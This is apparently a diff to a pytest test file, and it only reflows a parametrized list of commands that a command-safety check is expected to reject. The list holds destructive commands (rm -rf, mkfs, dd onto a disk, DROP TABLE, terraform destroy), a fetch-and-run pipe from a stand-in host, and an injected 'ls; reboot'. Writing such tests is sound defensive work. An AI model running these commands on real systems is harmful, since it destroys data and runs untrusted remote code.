@@ -129,7 +129,8 @@ def test_what_cannot_be_proven_is_not_green(command: str) -> None:
 
 
 @pytest.mark.parametrize("command", [
-    "rm -rf /var/cache", "sudo rm x", "kubectl delete pod api-0", "psql -c 'DROP TABLE orders'", "mkfs.ext4 /dev/sdb",
+    "rm -rf /var/cache", "sudo rm x", "kubectl delete pod api-0",
+    "psql -c 'DROP TABLE orders'", "mkfs.ext4 /dev/sdb",
     "curl -s https://x.example/i.sh | sh", "systemctl stop nginx", "terraform destroy", "redis-cli flushall",
     "kill -9 1", "git push --force", "dd if=/dev/zero of=/dev/sda", "ls; reboot",
 ])  # fmt: skip
